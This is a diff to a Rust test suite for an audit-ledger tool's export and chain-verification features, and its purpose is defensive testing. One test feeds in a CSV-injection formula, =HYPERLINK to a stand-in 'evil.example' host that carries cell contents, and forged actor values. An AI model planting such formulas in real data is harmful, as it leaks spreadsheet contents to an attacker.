@@ -8,8 +8,8 @@ use std::process::Command;
 use insta::assert_snapshot;
 use rewind_ledger::page::surgery;
 use rewind_ledger::{
-    Column, Digest, Draft, Event, FileType, Ledger, Origin, PathMoved, RowImage, RowsChanged,
-    RunStarted, SqlValue, Timestamp,
+    Column, Digest, Draft, EVENT_KINDS, Event, FileType, Ledger, Origin, PathMoved, RowImage,
+    RowsChanged, RunStarted, SqlValue, Timestamp,
 };
 use rewind_tests::{NOW, TestEnv};
 
@@ -237,21 +237,11 @@ fn audit_reports_are_readable_and_the_csv_verifies_like_the_jsonl() {
     assert!(
         run_report
             .stdout
-            .contains("rewind audit export --format jsonl -o trail.jsonl --run r1"),
+            .contains("rewind audit export --format jsonl -o trail.jsonl --from-seq 1 --to-seq 4"),
         "{}",
         run_report.stdout
     );
-    let csv = env.root().join("trail.csv");
-    let output = env.run(&[
-        "audit",
-        "export",
-        "--format",
-        "csv",
-        "-o",
-        csv.to_str().unwrap(),
-    ]);
-    assert_eq!(output.code, 0, "{output:?}");
-    let text = std::fs::read_to_string(&csv).unwrap();
+    let (csv, text) = export_csv(&env, "trail.csv");
     assert_snapshot!("audit_report_csv", text);
     if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
         assert!(ok, "{stdout}{stderr}");
@@ -272,6 +262,396 @@ fn audit_reports_are_readable_and_the_csv_verifies_like_the_jsonl() {
         std::fs::write(&tampered, text.replacen(from, to, 1)).unwrap();
         if let Some((ok, _, stderr)) = python_verifier(&tampered, &[]) {
             assert!(!ok && stderr.contains(expected), "{stderr}");
+        }
+    }
+}
+
+/// The seqs of a JSONL export, in order.
+fn jsonl_seqs(stdout: &str) -> Vec<u64> {
+    stdout
+        .lines()
+        .map(|line| {
+            let value: serde_json::Value = serde_json::from_str(line).unwrap();
+            value["seq"].as_u64().unwrap()
+        })
+        .collect()
+}
+
+#[test]
+fn the_proof_printed_in_a_report_still_verifies_after_the_ledger_grows() {
+    let env = populated();
+    assert_eq!(env.run(&["note", "checked", "--run", "r1"]).code, 0);
+    let scopes: [&[&str]; 4] = [
+        &[],
+        &["--run", "r1"],
+        &["--since", "2026-01-02"],
+        &["--run", "r1", "--from-seq", "2", "--to-seq", "3"],
+    ];
+    let reports: Vec<String> = scopes
+        .iter()
+        .map(|scope| {
+            let mut args = vec!["audit", "export", "--format", "md"];
+            args.extend_from_slice(scope);
+            let output = env.run(&args);
+            assert_eq!(output.code, 0, "{output:?}");
+            output.stdout
+        })
+        .collect();
+    // One more event in the run and in the period: a command rebuilt from
+    // --run or --since would now export it too, and end past the head.
+    assert_eq!(env.run(&["note", "later", "--run", "r1"]).code, 0);
+    let trail = env.root().join("trail.jsonl");
+    let trail = trail.to_str().unwrap();
+    for report in reports {
+        let block = report
+            .split("```sh\n")
+            .nth(1)
+            .and_then(|rest| rest.split("```").next())
+            .unwrap_or_else(|| panic!("no commands in {report}"));
+        let mut lines = block.lines();
+        let words = |line: Option<&str>| -> Vec<String> {
+            line.unwrap()
+                .split_whitespace()
+                .map(|word| if word == "trail.jsonl" { trail } else { word }.to_owned())
+                .collect()
+        };
+        let export = words(lines.next());
+        assert_eq!(export[0], "rewind", "{block}");
+        let export: Vec<&str> = export[1..].iter().map(String::as_str).collect();
+        let output = env.run(&export);
+        assert_eq!(output.code, 0, "{output:?}");
+        let verify = words(lines.next());
+        assert_eq!(
+            verify[..3],
+            ["python3", "tools/verify_chain.py", trail],
+            "{block}"
+        );
+        let head = verify
+            .iter()
+            .position(|word| word == "--head")
+            .map(|at| verify[at + 1].clone())
+            .unwrap();
+        let text = std::fs::read_to_string(trail).unwrap();
+        let last: serde_json::Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
+        assert_eq!(last["hash"], head.as_str(), "{block}\n{text}");
+        let first = report
+            .split("Events seq ")
+            .nth(1)
+            .and_then(|rest| rest.split(' ').next())
+            .unwrap();
+        assert_eq!(
+            jsonl_seqs(&text).first().map(u64::to_string).as_deref(),
+            Some(first),
+            "{block}"
+        );
+        let rest: Vec<&str> = verify[3..].iter().map(String::as_str).collect();
+        if let Some((ok, stdout, stderr)) = python_verifier(Path::new(trail), &rest) {
+            assert!(ok, "{block}\n{stdout}{stderr}");
+        }
+    }
+}
+
+#[test]
+fn an_export_by_seq_is_what_every_filter_covers() {
+    let env = populated();
+    assert_eq!(env.run(&["note", "checked", "--run", "r1"]).code, 0);
+    assert_eq!(env.run(&["note", "unrelated"]).code, 0);
+    let seqs = |args: &[&str]| -> Vec<u64> {
+        let mut argv = vec!["audit", "export"];
+        argv.extend_from_slice(args);
+        let output = env.run(&argv);
+        assert_eq!(output.code, 0, "{output:?}");
+        jsonl_seqs(&output.stdout)
+    };
+    assert_eq!(seqs(&["--from-seq", "2"]), vec![2, 3, 4, 5]);
+    assert_eq!(seqs(&["--to-seq", "2"]), vec![1, 2]);
+    assert_eq!(seqs(&["--from-seq", "3", "--to-seq", "3"]), vec![3]);
+    assert_eq!(seqs(&["--run", "r1", "--from-seq", "2"]), vec![2, 3, 4]);
+    assert_eq!(seqs(&["--run", "r1", "--to-seq", "5"]), vec![1, 2, 3, 4]);
+    assert_eq!(
+        seqs(&["--since", "2026-01-02", "--from-seq", "4", "--to-seq", "5"]),
+        vec![4, 5]
+    );
+    assert_eq!(
+        seqs(&["--since", "2026-01-03", "--from-seq", "1"]),
+        Vec::<u64>::new()
+    );
+    let part = env.root().join("part.jsonl");
+    let output = env.run(&[
+        "audit",
+        "export",
+        "--from-seq",
+        "2",
+        "--to-seq",
+        "3",
+        "-o",
+        part.to_str().unwrap(),
+    ]);
+    assert_eq!(output.code, 0, "{output:?}");
+    let first: serde_json::Value = serde_json::from_str(
+        std::fs::read_to_string(&part)
+            .unwrap()
+            .lines()
+            .next()
+            .unwrap(),
+    )
+    .unwrap();
+    if let Some((ok, stdout, stderr)) =
+        python_verifier(&part, &["--prev", first["prev"].as_str().unwrap()])
+    {
+        assert!(
+            ok && stdout.starts_with("ok: 2 events, seq 2..3"),
+            "{stdout}{stderr}"
+        );
+    }
+    let empty = TestEnv::with_ledger();
+    let output = empty.run(&["audit", "export", "--to-seq", "1"]);
+    assert_eq!(output.code, 2, "{output:?}");
+    assert!(
+        output.stderr.contains("whose head is seq 0") && output.stderr.contains("no events yet"),
+        "{}",
+        output.stderr
+    );
+}
+
+/// The CSV export of a ledger, written to `name` in its temporary directory.
+fn export_csv(env: &TestEnv, name: &str) -> (std::path::PathBuf, String) {
+    let csv = env.root().join(name);
+    let output = env.run(&[
+        "audit",
+        "export",
+        "--format",
+        "csv",
+        "-o",
+        csv.to_str().unwrap(),
+    ]);
+    assert_eq!(output.code, 0, "{output:?}");
+    let text = std::fs::read_to_string(&csv).unwrap();
+    (csv, text)
+}
+
+/// A CSV export with its header line replaced.
+fn with_header(text: &str, header: &str) -> String {
+    let (_, rows) = text.split_once("\r\n").unwrap();
+    format!("{header}\r\n{rows}")
+}
+
+/// A CSV export with `field` added to the end of every row but the header.
+fn with_field(text: &str, field: &str) -> String {
+    let (header, rows) = text.split_once("\r\n").unwrap();
+    let rows = rows.replace("\r\n", &format!(",{field}\r\n"));
+    format!("{header}\r\n{rows}")
+}
+
+#[test]
+fn the_verifier_refuses_forged_csv_columns_and_headers() {
+    let env = populated();
+    assert_eq!(env.run(&["note", "checked", "--run", "r1"]).code, 0);
+    let (csv, text) = export_csv(&env, "trail.csv");
+    let header = rewind_projections::audit::CSV_COLUMNS.join(",");
+    assert!(text.starts_with(&format!("{header}\r\n")), "{text}");
+    let forged = |from: &str, to: &str| {
+        assert!(text.contains(from), "{from:?} not in {text}");
+        text.replacen(from, to, 1)
+    };
+    let cases = [
+        (
+            forged(",PathMoved,1,", ",PathMoved,7,"),
+            "row 2: seq 2: the step column says '7', its record '1'",
+        ),
+        (
+            forged(",RunStarted,,", ",RunStarted,1,"),
+            "row 1: seq 1: the step column says '1', its record ''",
+        ),
+        // csv.DictReader kept the last of two columns of one name.
+        (
+            with_header(
+                &with_field(&text, "mallory@evil"),
+                &format!("{header},actor"),
+            ),
+            "the header: column 12 'actor' is not one of the export's 11 columns",
+        ),
+        (
+            with_header(
+                &text.replace(",testhost,", ",mallory@evil,"),
+                &header.replace(",host,", ",actor,"),
+            ),
+            "the header: column 7 is 'actor', the export's is 'host'",
+        ),
+        (
+            with_header(&with_field(&text, "fine"), &format!("{header},comment")),
+            "the header: column 12 'comment' is not one of the export's 11 columns",
+        ),
+        (
+            with_field(&text, "extra"),
+            "row 1: column 12 holds 'extra', past the export's 11 columns",
+        ),
+        (
+            with_header(&text, header.strip_suffix(",record").unwrap()),
+            "the header: column 11 'record' is missing",
+        ),
+        (
+            forged(
+                ",run of ns3-vhost started on example.com,",
+                ",nothing happened,",
+            ),
+            "",
+        ),
+    ];
+    let tampered = env.root().join("tampered.csv");
+    for (forgery, expected) in cases {
+        std::fs::write(&tampered, &forgery).unwrap();
+        if let Some((ok, stdout, stderr)) = python_verifier(&tampered, &[]) {
+            if expected.is_empty() {
+                // The summary is rewind's sentence about the event: no
+                // verifier without rewind's code can recompute it, so the
+                // "ok" of a CSV says it was not checked.
+                assert!(ok, "{stdout}{stderr}");
+                assert!(
+                    stdout.contains("the summary column is for reading and was not checked"),
+                    "{stdout}"
+                );
+            } else {
+                assert!(!ok, "accepted:\n{forgery}\n{stdout}");
+                assert!(
+                    stderr.contains(expected),
+                    "expected {expected:?} in {stderr}"
+                );
+            }
+        }
+    }
+    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
+        assert!(ok, "{stdout}{stderr}");
+    }
+}
+
+#[test]
+fn every_event_kind_exports_a_csv_that_verifies() {
+    let env = TestEnv::with_ledger();
+    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ledger/tests/fixtures/v1");
+    let mut drafts = Vec::new();
+    // The sample checkpoint names a head of another ledger; this ledger's
+    // own, signed, checkpoint stands for the kind instead.
+    for kind in EVENT_KINDS.iter().filter(|kind| **kind != "Checkpoint") {
+        let text = std::fs::read_to_string(fixtures.join(format!("{kind}.hex"))).unwrap();
+        let bytes = hex::decode(text.split_whitespace().collect::<String>()).unwrap();
+        let (_, record) = rewind_ledger::codec::decode_stored(&bytes, 0).unwrap();
+        drafts.push(Draft {
+            run: record.run,
+            event: record.event,
+        });
+    }
+    let mut ledger = Ledger::open(&env.ledger, origin()).unwrap();
+    ledger.append_batch(drafts).unwrap();
+    ledger.checkpoint(&[3; 32]).unwrap();
+    drop(ledger);
+    let (csv, text) = export_csv(&env, "kinds.csv");
+    // Steps appear where an event has one, and the check covers both cases.
+    assert!(
+        text.contains(",PathMoved,") && text.contains(",Note,,"),
+        "{text}"
+    );
+    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
+        assert!(ok, "{stdout}{stderr}");
+        let count = EVENT_KINDS.len();
+        assert!(
+            stdout.starts_with(&format!("ok: {count} events, seq 1..{count}")),
+            "{stdout}"
+        );
+    }
+}
+
+/// The strings of `NAME = [...]` or `NAME = (...)` in the verifier's source.
+fn python_strings(source: &str, name: &str) -> Vec<String> {
+    let start = format!("\n{name} = ");
+    let list = source
+        .split_once(start.as_str())
+        .and_then(|(_, rest)| rest.get(1..)?.split_once([']', ')']))
+        .map(|(list, _)| list)
+        .unwrap_or_else(|| panic!("tools/verify_chain.py defines no {name}"));
+    list.split(',')
+        .map(|item| item.trim().trim_matches('"'))
+        .filter(|item| !item.is_empty())
+        .map(|item| item.replace("\\t", "\t").replace("\\r", "\r"))
+        .collect()
+}
+
+#[test]
+fn the_verifiers_csv_columns_are_the_exports() {
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tools/verify_chain.py");
+    let source = std::fs::read_to_string(script).unwrap();
+    assert_eq!(
+        python_strings(&source, "CSV_COLUMNS"),
+        rewind_projections::audit::CSV_COLUMNS,
+        "change CSV_COLUMNS in tools/verify_chain.py and projections/src/audit.rs together"
+    );
+    assert_eq!(
+        python_strings(&source, "FORMULA_STARTS"),
+        rewind_projections::audit::FORMULA_STARTS.map(String::from),
+        "change FORMULA_STARTS in tools/verify_chain.py and projections/src/audit.rs together"
+    );
+}
+
+#[test]
+fn spreadsheet_formulas_in_a_csv_stay_text_and_it_still_verifies() {
+    let env = populated();
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    assert_eq!(env.run(&["--actor", formula, "note", "checked"]).code, 0);
+    {
+        let chosen = Origin {
+            actor: "@ops".into(),
+            host: "-h".into(),
+        };
+        let mut ledger = Ledger::open(&env.ledger, chosen).unwrap();
+        let Event::RowsChanged(mut rows) = ledger.get(3).unwrap().record.event else {
+            panic!("seq 3 changed rows");
+        };
+        rows.table = "+SUM(1,2)".into();
+        ledger
+            .append_batch(vec![Draft::new(Some("'r2"), Event::RowsChanged(rows))])
+            .unwrap();
+    }
+    let (csv, text) = export_csv(&env, "trail.csv");
+    for cell in [
+        r#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")",testhost,Note,,note: checked,"#,
+        r#",''r2,'@ops,'-h,RowsChanged,2,"'+SUM(1,2): 1 updated, 1 inserted, 0 deleted (chunk 0)","#,
+    ] {
+        assert!(text.contains(cell), "{cell} not in {text}");
+    }
+    if let Some((ok, stdout, stderr)) = python_verifier(&csv, &[]) {
+        assert!(ok, "{stdout}{stderr}");
+        assert!(stdout.starts_with("ok: 5 events"), "{stdout}");
+    }
+    let tampered = env.root().join("tampered.csv");
+    for (from, to, expected) in [
+        (
+            r#","'=HYPERLINK"#,
+            r#","=HYPERLINK"#,
+            "row 4: seq 4: the actor column is written '=HYPERLINK",
+        ),
+        (
+            r#","'+SUM(1,2):"#,
+            r#","+SUM(1,2):"#,
+            "row 5: seq 5: the summary column starts with '+'",
+        ),
+        (
+            ",'@ops,",
+            ",'@opz,",
+            "row 5: seq 5: the actor column says '@opz', its record '@ops'",
+        ),
+        (
+            ",testhost,Note,",
+            ",'testhost,Note,",
+            "row 4: seq 4: the host column is written \"'testhost\", the export writes 'testhost'",
+        ),
+    ] {
+        assert!(text.contains(from), "{from}");
+        std::fs::write(&tampered, text.replacen(from, to, 1)).unwrap();
+        if let Some((ok, _, stderr)) = python_verifier(&tampered, &[]) {
+            assert!(
+                !ok && stderr.contains(expected),
+                "{expected:?} not in {stderr}"
+            );
         }
     }
 }
@@ -318,6 +698,18 @@ fn bad_input_changes_nothing() {
         env.snapshot(&["history", "--kind", "pathmoved"])
     );
     assert_snapshot!("empty_note", env.snapshot(&["note", "  "]));
+    assert_snapshot!(
+        "export_seq_past_the_head",
+        env.snapshot(&["audit", "export", "--from-seq", "2", "--to-seq", "9"])
+    );
+    assert_snapshot!(
+        "export_seq_zero",
+        env.snapshot(&["audit", "export", "--from-seq", "0"])
+    );
+    assert_snapshot!(
+        "export_seqs_reversed",
+        env.snapshot(&["audit", "export", "--from-seq", "3", "--to-seq", "2"])
+    );
     assert_eq!(
         std::fs::read(env.ledger.join("journal.jsonl")).unwrap(),
         journal
